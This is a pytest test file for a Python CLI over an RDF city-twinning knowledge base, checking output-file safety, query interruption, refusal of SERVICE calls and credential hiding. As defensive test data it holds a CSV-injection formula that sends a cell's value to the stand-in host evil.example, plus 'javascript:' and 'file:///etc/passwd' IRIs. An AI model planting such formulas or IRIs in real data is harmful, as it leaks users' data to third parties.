"""Safe by default (issue 10): ``--output`` never replaces what it did not write, queries can be
stopped, SERVICE runs only when asked for, spreadsheet formulas are neutralised, and the same file
gets the same verdict whatever its size."""

import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from local_http import QuietHandler, serving
from stedenbanden.cli import cli
from stedenbanden.formats import emit

HEAVY = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }\n"


def kb(*args, input=None):
    result = CliRunner().invoke(cli, [str(a) for a in args], input=input)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    return result


# --- --output -----------------------------------------------------------------------------------

def test_output_keeps_a_private_files_mode(tmp_path):
    out = tmp_path / "private.csv"
    emit("old\n", out)  # an earlier output of kb: kb replaces only its own files
    out.chmod(0o600)
    assert kb("query", "countries", "--format", "csv", "-o", out).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_text().startswith("code,country")


def test_output_writes_through_a_symbolic_link(tmp_path):
    target = tmp_path / "real.csv"
    emit("old\n", target)
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert kb("query", "countries", "--format", "csv", "-o", link).exit_code == 0
    assert link.is_symlink()
    assert target.read_text().startswith("code,country")


def test_output_into_a_fifo_is_written_not_replaced(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE, text=True)
    assert kb("query", "countries", "--format", "csv", "-o", fifo).exit_code == 0
    assert reader.communicate(timeout=10)[0].startswith("code,country")
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_output_into_a_device_is_written_not_replaced():
    # checked without writing: a regression here would replace the machine's /dev/null
    from stedenbanden.formats import _output_target

    assert _output_target(Path("/dev/null")) == (Path("/dev/null"), None)


def test_output_never_replaces_an_input_of_the_command(tmp_path):
    data = tmp_path / "mine.ttl"
    data.write_text("@prefix ex: <https://example.org/> .\nex:a ex:b ex:c .\n", encoding="utf-8")
    query = tmp_path / "q.rq"
    query.write_text("SELECT * WHERE { ?s ?p ?o } LIMIT 1\n", encoding="utf-8")
    sheet = tmp_path / "links.csv"
    sheet.write_text((Path(__file__).parent / "fixtures" / "import" / "documented-links.csv").read_text(encoding="utf-8"),
                     encoding="utf-8")
    link = tmp_path / "link-to-data.ttl"
    link.symlink_to(data)
    before = {p: p.read_bytes() for p in (data, query, sheet)}
    for args, target in ((["--extra-data", data, "query", "countries", "--format", "csv", "-o", data], data),
                         (["--extra-data", data, "query", "countries", "-o", link], link),
                         (["sparql", query, "-o", query], query),
                         (["import-csv", sheet, "-o", sheet], sheet)):
        result = kb(*args)
        assert result.exit_code == 2, args
        assert f"{target}: is also an input of this command" in result.stderr
    assert {p: p.read_bytes() for p in before} == before


def test_output_to_a_looping_link(tmp_path):
    loop = tmp_path / "loop.csv"
    loop.symlink_to(loop)
    result = kb("query", "countries", "-o", loop)
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: {loop}: symbolic link loop; fix the link or choose another path"


# --- stopping local queries ---------------------------------------------------------------------

def _interrupt(args, stdin=subprocess.DEVNULL, after=3.0, how=signal.SIGINT, cwd=None):
    process = subprocess.Popen([sys.executable, "-m", "stedenbanden", *args], stdin=stdin, cwd=cwd,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    time.sleep(after)
    assert process.poll() is None, process.stderr.read()
    kids = subprocess.run(["pgrep", "-P", str(process.pid)], capture_output=True, text=True).stdout.split()
    process.send_signal(how)
    started = time.monotonic()
    out, err = process.communicate(timeout=10)
    return process.returncode, err, time.monotonic() - started, kids


def _gone(pid):
    try:
        os.kill(int(pid), 0)
    except ProcessLookupError:
        return True
    return False


def test_ctrl_c_stops_a_long_local_query(tmp_path):
    query = tmp_path / "heavy.rq"
    query.write_text(HEAVY)
    code, err, took, kids = _interrupt(["sparql", str(query)])
    assert code == 130
    assert err.strip() == "Interrupted."
    assert took < 1.5
    assert kids and all(_gone(pid) for pid in kids)


@pytest.mark.parametrize("how, status", [(signal.SIGTERM, 143), (signal.SIGHUP, 129)])
def test_kill_and_a_closed_terminal_clean_up_as_ctrl_c_does(tmp_path, how, status):
    # they used to end kb where it stood, leaving the half-written .heavy.csv.*.tmp beside the output
    query = tmp_path / "heavy.rq"
    query.write_text(HEAVY)
    code, err, took, kids = _interrupt(["sparql", str(query), "--format", "csv", "-o", "heavy.csv"], how=how, cwd=tmp_path)
    assert code == status
    assert err.strip() == "Interrupted."
    assert sorted(p.name for p in tmp_path.iterdir()) == ["heavy.rq"]
    assert kids and all(_gone(pid) for pid in kids)


def test_ctrl_c_stops_reading_endless_standard_input():
    code, err, took, _ = _interrupt(["sparql", "-"], stdin=subprocess.PIPE, after=2.0)
    assert code == 130
    assert err.strip() == "Interrupted."
    assert took < 1.5


def test_timeout_bounds_a_local_query(tmp_path):
    query = tmp_path / "heavy.rq"
    query.write_text(HEAVY)
    started = time.monotonic()
    result = kb("sparql", query, "--timeout", "1")
    assert time.monotonic() - started < 5
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: {query} did not finish within 1 s; raise --timeout or simplify the query"


def test_timeout_bounds_a_stored_query_locally():
    # a generous limit changes nothing: the real figures come back
    result = kb("query", "countries", "--timeout", "20", "--format", "csv")
    assert result.exit_code == 0
    assert "TR,Turkey,13,33.3" in result.stdout


def test_endless_standard_input_is_refused():
    result = kb("sparql", "-", input=b"y\n" * (9 * 1024 * 1024))
    assert result.exit_code == 1
    assert result.stderr.strip() == "Error: <stdin>: the query is longer than 16 MiB; is standard input really a query file?"


def test_non_utf8_standard_input():
    result = kb("sparql", "-", input=b"SELECT * WHERE { ?s ?p \"caf\xe9\" }")
    assert result.exit_code == 1
    assert result.stderr.strip() == "Error: <stdin>: the query is not UTF-8 text (byte 28); send it as UTF-8"


# --- SERVICE ------------------------------------------------------------------------------------

def _service_query(tmp_path, url):
    query = tmp_path / "federated.rq"
    query.write_text(f"SELECT * WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }} LIMIT 1\n")
    return query


def test_service_is_refused_without_allow_service(tmp_path):
    seen = []

    class Handler(QuietHandler):
        def do_GET(self):
            seen.append(self.path)
            self.send_response(500)
            self.end_headers()

        do_POST = do_GET

    with serving(Handler) as base:
        query = _service_query(tmp_path, f"{base}/sparql")
        result = kb("sparql", query)
    assert result.exit_code == 2
    assert result.stderr.strip() == (f"Error: {query}: the query has a SERVICE clause, which calls another endpoint; "
                                     "kb runs SERVICE only with --allow-service")
    assert seen == []


@pytest.mark.parametrize("text", [
    "SELECT ?service WHERE { ?service a <http://example.org/SERVICE> } # no SERVICE call here",
    'SELECT ?s WHERE { ?s ?p "SERVICE <http://example.org/>" }',
])
def test_the_word_service_elsewhere_is_not_a_service_clause(text):
    result = kb("sparql", "-", input=text)
    assert result.exit_code == 0, result.stderr


def test_a_failing_remote_service_is_named_as_such(tmp_path):
    from stedenbanden.server import free_port

    query = _service_query(tmp_path, f"http://127.0.0.1:{free_port()}/sparql")
    result = kb("sparql", query, "--allow-service")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: a remote SERVICE named in {query} failed: ")
    assert result.stderr.strip().endswith("the endpoint it calls is down or refused the request")


# --- CSV formula injection ----------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("fmt, sep", [("csv", ","), ("tsv", "\t")])
def test_formulas_are_neutralised_in_csv_and_tsv(tmp_path, fmt, sep):
    data = tmp_path / "names.ttl"
    names = [FORMULA, "+1", "-2+3", "@SUM(A1)", "\tTAB", "-"]
    data.write_text("".join(f'<http://example.org/p{i}> <http://example.org/name> {json.dumps(n)} ; '
                            f'<http://example.org/n> {-i} .\n' for i, n in enumerate(names)), encoding="utf-8")
    query = tmp_path / "names.rq"
    query.write_text("SELECT ?name ?n WHERE { ?p <http://example.org/name> ?name ; <http://example.org/n> ?n } ORDER BY DESC(?n)")
    result = kb("--data", data, "sparql", query, "--format", fmt)
    assert result.exit_code == 0, result.stderr
    import csv
    import io

    rows = list(csv.reader(io.StringIO(result.stdout), delimiter=sep))
    assert [r[0] for r in rows[1:]] == ["'" + FORMULA, "'+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "-"]
    assert [r[1] for r in rows[1:]] == ["0", "-1", "-2", "-3", "-4", "-5"]  # numbers stay numbers


def test_import_csv_refuses_a_formula_with_row_and_column(tmp_path):
    from stedenbanden.errors import KbError
    from stedenbanden.importers import kb_index, read_links_csv
    from stedenbanden import store

    path = tmp_path / "links.csv"
    path.write_text("cbs_code,partner,partner_country,status,evidence\n"
                    "GM0599,Fez,MA,other-dates,https://example.org/a\n"
                    f"GM0599,\"{FORMULA.replace(chr(34), chr(34) * 2)}\",MA,other-dates,https://example.org/b\n",
                    encoding="utf-8")
    with pytest.raises(KbError) as caught:
        read_links_csv(path, kb_index(store.load(store.knowledge_base_files())))
    assert str(caught.value) == (f"{path}, row 3, column partner: {FORMULA!r} starts with '=', which a spreadsheet "
                                 "runs as a formula; remove that first character")


# --- same verdict whatever the size -------------------------------------------------------------

def test_a_large_file_gets_the_same_verdict_as_a_small_one(tmp_path):
    bad = "<http://example.org/bad> <http://example.org/p> <http://example.org/a b> .\n"
    small = tmp_path / "small.ttl"
    small.write_text(bad, encoding="utf-8")
    large = tmp_path / "large.ttl"
    filler = "".join(f"<http://example.org/s{i}> <http://example.org/p> \"{i:060d}\" .\n" for i in range(120_000))
    large.write_text(filler + bad, encoding="utf-8")
    assert large.stat().st_size > 10 * 1024 * 1024
    verdicts = []
    for path in (small, large):
        result = kb("--data", path, "sparql", "-", input="ASK { ?s ?p ?o }")
        assert result.exit_code == 1, f"{path.name} was accepted"
        verdicts.append(result.stderr.replace(str(path), "FILE").split(", line")[0] + result.stderr.split("column")[-1])
    assert verdicts[0] == verdicts[1]
    assert "Invalid IRI code point ' '" in verdicts[1]


# --- endpoint deadline --------------------------------------------------------------------------

def test_endpoint_timeout_is_a_deadline_for_the_whole_answer():
    class Trickle(QuietHandler):
        def do_POST(self):
            self.send_response(200)
            self.send_header("Content-Type", "application/sparql-results+json")
            self.end_headers()
            try:
                for byte in b'{"head": {"vars": []}, "results": {"bindings": []}}' + b" " * 100:
                    self.wfile.write(bytes([byte]))
                    self.wfile.flush()
                    time.sleep(0.3)  # one byte each 0.3 s: every read is within the socket timeout
            except OSError:
                pass

        do_GET = do_POST

    with serving(Trickle) as base:
        url = f"{base}/query"
        started = time.monotonic()
        result = kb("query", "countries", "--endpoint", url, "--timeout", "2")
        took = time.monotonic() - started
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: {url} did not answer within 2 s; raise --timeout or check the endpoint"
    assert took < 4


# --- credentials in an endpoint URL -------------------------------------------------------------

def test_credentials_in_the_endpoint_url_are_used_and_never_printed():
    import base64

    seen = []

    class Handler(QuietHandler):
        def do_POST(self):
            seen.append(self.headers.get("Authorization"))
            self.send_response(401)
            self.end_headers()
            self.wfile.write(b"Unauthorized")

        do_GET = do_POST

    with serving(Handler) as base:
        port = base.rsplit(":", 1)[1]
        result = kb("query", "countries", "--endpoint", f"http://alice:s3cret@127.0.0.1:{port}/query")
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: http://127.0.0.1:{port}/query answered HTTP 401: Unauthorized"
    assert "s3cret" not in result.output
    assert seen and seen[0] == "Basic " + base64.b64encode(b"alice:s3cret").decode()


@pytest.mark.parametrize("url", ["ftp://alice:s3cret@example.org/q", "http://alice:s3cret@example.org:x/q",
                                 "alice:s3cret@example.org/query", "http://alice:s3cret/x@example.org:7878/query"])
def test_a_bad_endpoint_url_never_shows_its_password(url):
    result = kb("query", "countries", "--endpoint", url)
    assert result.exit_code == 2
    assert "s3cret" not in result.output and "alice:***@example.org" in result.stderr


def test_credentials_do_not_follow_a_redirect_to_another_host():
    """A redirect must not carry the password to the host it names (here: localhost, not 127.0.0.1)."""
    seen = []

    class Elsewhere(QuietHandler):
        def do_POST(self):
            seen.append(self.headers.get("Authorization"))
            self.send_response(401)
            self.end_headers()

        do_GET = do_POST  # urllib follows a 302 of a POST with a GET

    with serving(Elsewhere) as other:
        class Redirect(QuietHandler):
            def do_POST(self):
                self.send_response(302)
                self.send_header("Location", other.replace("127.0.0.1", "localhost") + "/query")
                self.end_headers()

        with serving(Redirect) as first:
            result = kb("query", "countries", "--endpoint", first.replace("http://", "http://alice:s3cret@") + "/query")
    assert result.exit_code == 1
    assert seen == [None]  # the redirect was followed, without the credentials
    assert "s3cret" not in result.output


# --- clear errors -------------------------------------------------------------------------------

def test_a_looping_link_in_a_data_folder(tmp_path):
    (tmp_path / "loop.ttl").symlink_to(tmp_path / "loop.ttl")
    (tmp_path / "ok.ttl").write_text("<http://example.org/a> <http://example.org/b> <http://example.org/c> .\n")
    for args in (["--data", tmp_path, "query", "themes"], ["--data", tmp_path / "loop.ttl", "query", "themes"]):
        result = kb(*args)
        assert result.exit_code == 1
        assert result.stderr.strip() == f"Error: {tmp_path / 'loop.ttl'}: symbolic link loop; fix the link or remove it"


def test_a_looping_link_as_query_file(tmp_path):
    loop = tmp_path / "loop.rq"
    loop.symlink_to(loop)
    result = kb("sparql", loop)
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: {loop}: symbolic link loop; fix the link or give the query file itself"


def test_a_turtle_token_longer_than_16_mib(tmp_path):
    path = tmp_path / "huge.ttl"
    path.write_text('<http://example.org/a> <http://example.org/b> "' + "x" * (17 * 1024 * 1024) + '" .\n')
    result = kb("--data", path, "query", "themes")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: {path}: a single string or IRI is longer than the parser accepts")
    assert len(result.stderr.strip().splitlines()) == 1


def test_report_against_a_down_endpoint_does_not_blame_figures_toml():
    from stedenbanden.server import free_port

    url = f"http://127.0.0.1:{free_port()}/query"
    result = kb("report", "--endpoint", url)
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: cannot connect to {url}: connection refused; is the endpoint running?"


def test_an_html_error_page_is_summarised():
    class Handler(QuietHandler):
        def do_POST(self):
            self.send_response(501)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!DOCTYPE HTML>\n<html><head><title>501 Not Implemented</title></head>"
                             b"<body><h1>Not Implemented</h1></body></html>")

        do_GET = do_POST

    with serving(Handler) as base:
        url = f"{base}/query"
        result = kb("query", "countries", "--endpoint", url)
    assert result.exit_code == 1
    assert result.stderr.strip() == f"Error: {url} answered HTTP 501: an HTML page: 501 Not Implemented"


# --- evidence -----------------------------------------------------------------------------------

@pytest.mark.parametrize("iri", ["javascript:alert(1)", "file:///etc/passwd", "data:text/html,hi", "ftp://example.org/x"])
def test_evidence_must_be_a_web_address(tmp_path, iri):
    fixture = Path(__file__).parent / "fixtures" / "ghana-two-more-candidates.ttl"
    text = fixture.read_text(encoding="utf-8")
    import re

    bad, count = re.subn(r"dcterms:source <https?://[^>]+>", f"dcterms:source <{iri}>", text, count=1)
    assert count == 1, "the fixture no longer states its evidence as dcterms:source <http...>"
    path = tmp_path / "bad-evidence.ttl"
    path.write_text(bad, encoding="utf-8")
    result = kb("validate", "--with-kb", path, "--format", "csv")
    assert result.exit_code == 1
    assert "A dcterms:source must be an http(s) web address" in result.stdout
    ok = kb("validate", "--with-kb", fixture)
    assert "A dcterms:source must be an http(s) web address" not in ok.stdout


# --- every RDF format by its extension ----------------------------------------------------------

def _datasets(tmp_path):
    """The same two facts, one of them in the named graph <http://example.org/g>, in each format."""
    import pyoxigraph as ox

    ex = "http://example.org/"
    quads = [ox.Quad(ox.NamedNode(ex + "a"), ox.NamedNode(ex + "name"), ox.Literal("Almelo")),
             ox.Quad(ox.NamedNode(ex + "b"), ox.NamedNode(ex + "name"), ox.Literal("Denizli"), ox.NamedNode(ex + "g"))]
    files = {}
    for suffix, fmt in ((".trig", ox.RdfFormat.TRIG), (".nq", ox.RdfFormat.N_QUADS), (".jsonld", ox.RdfFormat.JSON_LD)):
        files[suffix] = tmp_path / f"links{suffix}"
        files[suffix].write_bytes(ox.serialize(quads, format=fmt))
    triples = [ox.Triple(q.subject, q.predicate, q.object) for q in quads]
    for suffix, fmt in ((".nt", ox.RdfFormat.N_TRIPLES), (".rdf", ox.RdfFormat.RDF_XML), (".ttl", ox.RdfFormat.TURTLE),
                        (".owl", ox.RdfFormat.RDF_XML), (".n3", ox.RdfFormat.N3)):
        files[suffix] = tmp_path / f"links{suffix}"
        files[suffix].write_bytes(ox.serialize(triples, format=fmt))
    return files


@pytest.mark.parametrize("suffix", [".ttl", ".nt", ".nq", ".trig", ".jsonld", ".rdf", ".owl", ".n3"])
def test_every_rdf_format_is_read_by_its_extension(tmp_path, suffix):
    path = _datasets(tmp_path)[suffix]
    result = kb("--data", path, "sparql", "-", "--format", "csv",
                input="SELECT ?name WHERE { ?s <http://example.org/name> ?name } ORDER BY ?name")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == ["name", "Almelo", "Denizli"]


@pytest.mark.parametrize("suffix", [".nq", ".trig", ".jsonld"])
def test_named_graphs_are_kept(tmp_path, suffix):
    path = _datasets(tmp_path)[suffix]
    result = kb("--data", path, "sparql", "-", "--format", "csv",
                input="SELECT ?g ?name WHERE { GRAPH ?g { ?s <http://example.org/name> ?name } }")
    assert result.exit_code == 0, result.stderr
    assert result.stdout.splitlines() == ["g,name", "http://example.org/g,Denizli"]


def test_a_folder_of_mixed_formats(tmp_path):
    _datasets(tmp_path)
    result = kb("--data", tmp_path, "sparql", "-", "--format", "csv",
                input="SELECT (COUNT(*) AS ?n) WHERE { ?s <http://example.org/name> ?name }")
    assert result.stdout.splitlines() == ["n", "2"]


@pytest.mark.parametrize("suffix, name", [(".trig", "TriG"), (".nq", "N-Quads"), (".nt", "N-Triples")])
def test_parse_errors_name_the_format(tmp_path, suffix, name):
    path = tmp_path / f"broken{suffix}"
    path.write_text("<http://example.org/a> <http://example.org/b> \"open\n", encoding="utf-8")
    result = kb("--data", path, "query", "themes")
    assert result.exit_code == 1
    assert f"{name} syntax error" in result.stderr and str(path) in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize("suffix, text, expected", [
    (".rdf", "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description", "RDF/XML syntax error"),
    (".jsonld", '{"@context": "https://example.org/context.jsonld", "@id": "https://example.org/a"}',
     "refers to a remote @context, which kb does not fetch"),
    (".jsonld", "", "JSON-LD syntax error"),
])
def test_parse_errors_of_other_formats_say_no_line_none_and_give_no_turtle_hint(tmp_path, suffix, text, expected):
    path = tmp_path / f"broken{suffix}"
    path.write_text(text, encoding="utf-8")
    result = kb("--data", path, "query", "themes")
    assert result.exit_code == 1
    assert expected in result.stderr and "None" not in result.stderr and "final '.'" not in result.stderr


@pytest.mark.parametrize("command", [["query", "countries"], ["load"]])
def test_a_graph_that_is_no_iri_is_refused_before_anything_is_sent(command):
    result = kb(*command, "--endpoint", "http://127.0.0.1:9/query", "--graph", "not an iri")
    assert result.exit_code == 2
    assert result.stderr == ("Error: --graph 'not an iri': not an IRI; give the graph's full IRI, "
                             "e.g. https://w3id.org/stedenbanden/graph/kb\n")


# --- outputs that are inputs (issue 10, from a fresh user's session) ------------------------------

MINE = ("@prefix sb: <https://w3id.org/stedenbanden/ontology#> .\n"
            "<https://w3id.org/stedenbanden/id/link/x> a sb:CityLink .\n")


@pytest.mark.parametrize("with_kb", [False, True])
def test_validate_never_writes_over_the_file_it_checks(tmp_path, with_kb):
    mine = tmp_path / "mine.ttl"
    mine.write_text(MINE, encoding="utf-8")
    result = kb("validate", *(["--with-kb"] if with_kb else []), mine, "-o", mine)
    assert result.exit_code == 2
    assert f"{mine}: is also an input of this command" in result.stderr
    assert mine.read_text(encoding="utf-8") == MINE


def test_validate_never_writes_into_a_folder_it_checks(tmp_path):
    fold = tmp_path / "fold"
    fold.mkdir()
    (fold / "b.ttl").write_text(MINE, encoding="utf-8")
    for out in (fold / "a.ttl", fold / "b.ttl"):
        result = kb("validate", fold, "-o", out)
        assert result.exit_code == 2, result.output
        assert "is also an input of this command" in result.stderr
    assert not (fold / "a.ttl").exists()
    assert (fold / "b.ttl").read_text(encoding="utf-8") == MINE


def test_validate_still_writes_beside_the_folder_it_checks(tmp_path):
    fold = tmp_path / "fold"
    fold.mkdir()
    (fold / "b.ttl").write_text(MINE, encoding="utf-8")
    result = kb("validate", fold, "-o", tmp_path / "fold-report.txt")
    assert result.exit_code == 0
    assert (tmp_path / "fold-report.txt").read_text(encoding="utf-8").startswith("OK: 1 file(s) conform")


def _copy_folder(source, target):
    import shutil

    shutil.copytree(source, target)
    return {p.name: p.read_bytes() for p in target.iterdir()}


@pytest.mark.parametrize("command, source, name", [
    (["import-twin-towns", "--country", "Netherlands"], Path(__file__).parent / "fixtures" / "import" / "twin-cities-sample",
     "twin_cities.csv"),
    (["import-wikidata-twinning", "--netherlands"], Path(__file__).parent / "fixtures" / "wikidata", "names.tsv"),
])
def test_importers_never_write_over_their_source_files(tmp_path, command, source, name):
    folder = tmp_path / "src"
    before = _copy_folder(source, folder)
    assert name in before
    result = kb(*command, "--source", folder, "-o", folder / name)
    assert result.exit_code == 2
    assert f"{folder / name}: is also an input of this command" in result.stderr
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


# --- kb replaces only the files it wrote ------------------------------------------------------------

def test_output_never_replaces_a_file_kb_did_not_write(tmp_path):
    mine = tmp_path / "notes.csv"
    mine.write_text("my own notes\n")
    result = kb("query", "countries", "--format", "csv", "-o", mine)
    assert result.exit_code == 2
    assert result.stderr.strip() == (f"Error: {mine}: the file exists and kb did not write it (or it changed since); "
                                     "kb replaces only its own output: remove or rename the file, or choose another name")
    assert mine.read_text() == "my own notes\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.csv"]


def test_output_replaces_kb_s_own_file_until_someone_edits_it(tmp_path):
    out = tmp_path / "countries.csv"
    assert kb("query", "countries", "--format", "csv", "-o", out).exit_code == 0
    assert kb("query", "themes", "--format", "csv", "-o", out).exit_code == 0  # its own output: replaced
    assert out.read_text().startswith("code,theme")
    with out.open("a") as handle:
        handle.write("a line of mine\n")
    result = kb("query", "countries", "--format", "csv", "-o", out)
    assert result.exit_code == 2 and "the file exists and kb did not write it (or it changed since)" in result.stderr
    assert out.read_text().endswith("a line of mine\n")


def test_output_may_replace_an_empty_file(tmp_path):
    empty = tmp_path / "made-by-mktemp"
    empty.touch()
    assert kb("query", "countries", "--format", "csv", "-o", empty).exit_code == 0
    assert empty.read_text().startswith("code,country")
